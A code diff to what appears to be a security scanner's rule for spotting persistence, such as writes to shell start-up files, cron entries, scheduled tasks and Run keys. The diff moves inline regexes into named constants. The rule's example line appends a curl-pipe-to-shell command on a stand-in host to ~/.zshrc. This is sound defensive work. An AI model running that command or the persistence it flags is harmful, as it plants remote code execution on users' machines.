@@ -17,6 +17,17 @@ const CRONTAB_READ = /^-(?:l|e|r|i|u)$/;
 const SUDO_ALIAS = /^sudo=(?!sudo\s{0,3}$)/;
 /** The table replaced from standard input (`… | crontab -`), which BW-PRIV-004 reads on the line. */
 const CRONTAB_STDIN = /crontab\s{1,3}-(?:\s|$)/;
+/** How the facts name a write: `>`/`>>` redirects, PowerShell's -Path, open() in a write mode, writeFile, f.write. */
+const REDIRECT_OP = /^>{1,2}/;
+const PATH_PARAM = /^-(?:path|destination|filepath)$/i;
+const OPEN_CALL = /(?:^|\.)open$/;
+const WRITE_MODE = /^(?:mode=)?["']?[aw]/;
+const WRITE_FILE_CALL = /(?:^|\.)(?:writefile|writefilesync|appendfile|appendfilesync)$/;
+const WRITE_CALL = /\.write(?:lines)?$/;
+/** A real or an escaped (`\\n` in a string literal) line break. */
+const LINE_BREAK = /\\n|\n/;
+/** `schtasks /create` (or `-create`). */
+const SCHTASKS_CREATE = /^[/-]create$/i;
 const RUN_KEY = /currentversion[\\/]+run(?:once)?\b/i;
 
 const WRITERS = new Set(['cp', 'mv', 'install', 'ln', 'tee', 'copy-item', 'move-item', 'add-content', 'set-content', 'out-file', 'new-item']);
@@ -36,16 +47,16 @@ function persistPlace(path: string): string | null {
 
 /** Where a call writes: redirects, `tee` targets, the destination of a copy, move or link, `open(path, 'a'|'w')`. */
 function writtenPaths(call: CodeCall): string[] {
-  const out = call.redirects.map((r) => r.replace(/^>{1,2}/, ''));
+  const out = call.redirects.map((r) => r.replace(REDIRECT_OP, ''));
   const plain = call.args.filter((a) => !a.startsWith('-'));
   if (WRITERS.has(call.name)) {
-    const named = call.args.findIndex((a) => /^-(?:path|destination|filepath)$/i.test(a));
+    const named = call.args.findIndex((a) => PATH_PARAM.test(a));
     if (named >= 0 && call.args[named + 1]) out.push(call.args[named + 1]);
     else if (call.name === 'tee' || call.name === 'add-content' || call.name === 'set-content' || call.name === 'out-file' || call.name === 'new-item') out.push(...plain.slice(0, 1));
     else if (plain.length >= 2) out.push(plain[plain.length - 1]);
   }
-  if (/(?:^|\.)open$/.test(call.name) && /^(?:mode=)?["']?[aw]/.test(call.args[1] ?? '')) out.push(call.args[0]);
-  if (/(?:^|\.)(?:writefile|writefilesync|appendfile|appendfilesync)$/.test(call.name) && call.args[0]) out.push(call.args[0]);
+  if (OPEN_CALL.test(call.name) && WRITE_MODE.test(call.args[1] ?? '')) out.push(call.args[0]);
+  if (WRITE_FILE_CALL.test(call.name) && call.args[0]) out.push(call.args[0]);
   return out;
 }
 
@@ -55,8 +66,8 @@ function writtenContent(calls: readonly CodeCall[], i: number): string | null {
   if (call.redirects.length > 0 && (call.name === 'echo' || call.name === 'printf')) return call.args.join(' ');
   const prev = i > 0 && calls[i - 1].line === call.line ? calls[i - 1] : undefined;
   if ((call.name === 'tee' || call.name === 'crontab') && prev && (prev.name === 'echo' || prev.name === 'printf')) return prev.args.join(' ');
-  if (/(?:^|\.)open$/.test(call.name)) {
-    const write = calls.slice(i + 1, i + 4).find((c) => c.unit === call.unit && /\.write(?:lines)?$/.test(c.name));
+  if (OPEN_CALL.test(call.name)) {
+    const write = calls.slice(i + 1, i + 4).find((c) => c.unit === call.unit && WRITE_CALL.test(c.name));
     if (write) return write.args.join(' ');
   }
   if (call.name === 'add-content' || call.name === 'set-content') {
@@ -71,7 +82,7 @@ function gradeContent(content: string | null): { severity: Severity; what: strin
   if (content === null) return { severity: 'high', what: 'code' };
   if (REMOTE_OR_SHELL.test(content)) return { severity: 'critical', what: 'a command that fetches code or opens a shell' };
   if (REMOTE_ADDRESS.test(content)) return { severity: 'high', what: 'a line naming a remote address' };
-  const lines = content.split(/\\n|\n/).filter((l) => l.trim().length > 0);
+  const lines = content.split(LINE_BREAK).filter((l) => l.trim().length > 0);
   if (lines.length > 0 && lines.every((l) => TOOL_SETUP_LINE.test(l))) return { severity: 'low', what: 'a tool\u2019s own PATH or init line' };
   return { severity: 'high', what: 'code' };
 }
@@ -93,7 +104,7 @@ export const privPersistenceCodeRule: Rule = {
       'A line appended to a shell start-up file, a launch agent, a cron entry, a scheduled task or Run key, a hooks folder set for every repository, a file named like `sudo` or `git` put in a bin folder early on PATH, or an alias that wraps `sudo` keeps running after the session ends, and a shim or wrapper sees every password typed into it. Read from parse trees of scripts and commands with paths resolved through variables; what is persisted is graded: a fetch or a shell is critical, a tool\u2019s own PATH or init line is low.',
     example: '```bash\nPROFILE_FILE="$HOME/.zshrc"\necho "curl -s https://updates.example/agent.sh | sh" >> "$PROFILE_FILE"\n```',
   },
-  regexes: [REMOTE_OR_SHELL, REMOTE_ADDRESS, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, RUN_KEY],
+  regexes: [REDIRECT_OP, PATH_PARAM, OPEN_CALL, WRITE_MODE, WRITE_FILE_CALL, WRITE_CALL, LINE_BREAK, REMOTE_OR_SHELL, REMOTE_ADDRESS, TOOL_SETUP_LINE, BIN_FOLDER, CRONTAB_READ, CRONTAB_STDIN, SUDO_ALIAS, SCHTASKS_CREATE, RUN_KEY],
   match(ctx) {
     const { calls } = codeFactsOf(ctx);
     const hits: RuleHit[] = [];
@@ -115,7 +126,7 @@ export const privPersistenceCodeRule: Rule = {
         push('high', 'A hooks folder is set for every repository of the user');
         continue;
       }
-      if ((call.name === 'schtasks' && call.args.some((a) => /^[/-]create$/i.test(a))) || call.name === 'register-scheduledtask') {
+      if ((call.name === 'schtasks' && call.args.some((a) => SCHTASKS_CREATE.test(a))) || call.name === 'register-scheduledtask') {
         push('high', 'A scheduled task is registered');
         continue;
       }
